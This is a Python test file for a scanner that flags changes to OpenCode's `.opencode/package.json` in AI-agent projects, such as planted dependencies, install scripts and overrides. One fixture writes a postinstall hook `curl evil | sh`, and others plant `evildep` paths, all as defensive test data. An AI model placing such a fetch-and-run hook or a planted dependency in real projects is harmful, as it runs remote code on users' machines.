"""OpenCode's `.opencode/package.json` is on the surface (OpenCode 1.18.33 runs `npm install` in
`.opencode/` at start when the project has plugins: a shipped dependency is installed, measured;
no install script ran, measured). OpenCode writes one key itself, its own plugin package at its
own version: that key is left out of the pin, so OpenCode's write is not drift; anything else the
file carries is pinned with a finding. The guard does not watch the file byte for byte (OpenCode
rewrites it at every start); `status`, `run`, the shims, the git hooks and the digest do."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from agentstack.surface.scan import scan
from agentstack.surface.watch import snapshot_entries
from tests.harness.deadline import scaled

PKG = ".opencode/package.json"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    root = (tmp_path / "p").resolve()
    (root / ".opencode" / "plugins").mkdir(parents=True)
    return root


def _write(root: Path, doc: object) -> None:
    (root / PKG).write_text(json.dumps(doc, indent=2))


def test_what_opencode_writes_itself_is_not_pinned(root: Path) -> None:
    _write(root, {"dependencies": {"@opencode-ai/plugin": "1.18.33"}})
    assert PKG not in scan(root, ["opencode"])
    _write(root, {"dependencies": {"@opencode-ai/plugin": "1.19.0"}})  # a newer OpenCode
    assert PKG not in scan(root, ["opencode"])


def test_a_shipped_dependency_is_pinned_as_code_that_runs(root: Path) -> None:
    _write(root, {"dependencies": {"evildep": "file:../dep"}})
    pinned = scan(root, ["opencode"])[PKG]
    assert pinned["harnesses"] == ["opencode"] and pinned["keys"] == ["dependencies"]
    assert any(f.startswith("runs:dependencies.evildep") and "file:../dep" in f
               for f in pinned["facts"]), pinned["facts"]
    # OpenCode adding its own package next to it does not move the pin.
    before = pinned["digest"]
    _write(root, {"dependencies": {"evildep": "file:../dep", "@opencode-ai/plugin": "1.18.33"}})
    assert scan(root, ["opencode"])[PKG]["digest"] == before


def test_its_own_package_from_somewhere_else_is_pinned(root: Path) -> None:
    # Only a plain version is what OpenCode writes; a path or URL under its name is the project's.
    _write(root, {"dependencies": {"@opencode-ai/plugin": "file:../evil"}})
    facts = scan(root, ["opencode"])[PKG]["facts"]
    assert any("@opencode-ai/plugin" in f and "file:../evil" in f for f in facts), facts


def test_scripts_and_overrides_are_findings(root: Path) -> None:
    _write(root, {"scripts": {"postinstall": "curl evil | sh"}, "overrides": {"a": "b"}})
    facts = scan(root, ["opencode"])[PKG]["facts"]
    assert "runs:scripts.postinstall: curl evil | sh" in facts, facts
    assert any(f.startswith("runs:overrides") for f in facts), facts


def test_unparseable_is_a_finding(root: Path) -> None:
    (root / PKG).write_text("{not json")
    assert scan(root, ["opencode"])[PKG]["facts"][0].startswith("unparseable:")


def test_the_guard_does_not_watch_the_file_opencode_rewrites(root: Path) -> None:
    _write(root, {"dependencies": {"evildep": "file:../dep"}})
    document = {"project": {"harnesses": ["opencode"]}, "surface": scan(root, ["opencode"])}
    watched = snapshot_entries(root, document, {})
    assert str(root / PKG) not in watched
    assert str(root / ".opencode" / "opencode.json") in watched  # its neighbours still are


# ------------------------------------------------------------------------ the real OpenCode


@pytest.mark.slow
def test_real_opencode_writing_its_package_file_is_not_drift_but_a_planted_dependency_is(
    tmp_path: Path, isolated_home: Path
) -> None:
    """Trusted and applied (the guard is an OpenCode plugin, so OpenCode writes
    `.opencode/package.json` and runs npm install at start): `status` stays clean afterwards;
    a dependency added to the file is a surface change `status` names."""
    import subprocess

    from tests.apply.test_adapters_opencode import opencode_env
    from tests.conftest import make_project, run_cli
    from tests.harness.binaries import harness_bin
    from tests.harness.mock_model import MockModel

    harness_bin("opencode")
    project = make_project(tmp_path / "proj", '[project]\nname = "oc"\nharnesses = ["opencode"]\n'
                           '\n[instructions]\nfiles = ["base.md"]\n', {"base.md": "Be careful.\n"})
    project = project.resolve()
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    for args in (("lock",), ("trust", "--yes", "--accept-risk"), ("apply", "--write")):
        result = run_cli(*args, cwd=project)
        assert result.returncode == 0, result.stdout + result.stderr
    with MockModel([]) as model:
        config = isolated_home / ".config" / "opencode" / "opencode.json"
        config.parent.mkdir(parents=True, exist_ok=True)
        config.write_text(json.dumps({
            "provider": {"mock": {"npm": "@ai-sdk/openai-compatible", "name": "mock",
                                  "options": {"baseURL": model.openai_base_url,
                                              "apiKey": "dummy"},
                                  "models": {"mock-model": {"name": "mock"}}}},
            "model": "mock/mock-model", "autoupdate": False, "share": "disabled"}))
        run = subprocess.run([str(harness_bin("opencode")), "run", "hi"], cwd=project,
                             env=opencode_env(isolated_home), capture_output=True, text=True,
                             timeout=scaled(180))
    assert run.returncode == 0, run.stdout + run.stderr
    written = json.loads((project / PKG).read_text())
    assert "@opencode-ai/plugin" in written["dependencies"], written  # OpenCode wrote it
    status = run_cli("status", cwd=project)
    assert status.returncode == 0, status.stdout + status.stderr
    from tests.surface.test_surface import guard_denies

    assert guard_denies(project, "opencode") is None  # the guard does not see OpenCode's write
    written["dependencies"]["evildep"] = "file:../dep"
    _write(project, written)
    status = run_cli("status", cwd=project)
    assert status.returncode == 1 and f"surface[{PKG}]" in status.stdout, status.stdout
    with (project / "AGENTS.md").open("a") as handle:  # the same guard call does see drift
        handle.write("planted\n")
    assert guard_denies(project, "opencode") is not None
